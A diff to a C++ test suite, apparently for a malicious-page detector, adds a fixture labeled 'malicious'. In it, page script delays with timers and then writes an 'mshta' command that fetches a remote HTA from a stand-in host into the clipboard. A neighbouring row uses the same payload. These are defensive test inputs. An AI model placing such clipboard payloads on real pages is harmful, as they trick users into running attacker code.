@@ -70,6 +70,14 @@ INSTANTIATE_TEST_SUITE_P(
               "<p>x</p><script>for (var i = 0; i < 300; i++) navigator.clipboard.writeText('x' + i);"
               "navigator.clipboard.writeText('mshta http://range.example/x.hta')</script>"}},
             "malicious"},
+        Row{"a_clock_that_ticks_fast",
+            "chrome-win10",
+            {{"/",
+              "<p>x</p><script>setInterval(function () {}, 1); setTimeout(function () { "
+              "navigator.clipboard.writeText('mshta http://range.example/x.hta') }, 9000)</script>"}},
+            "malicious",
+            nullptr,
+            "timers"},
         Row{"much_talk",
             "chrome-win10",
             {{"/",
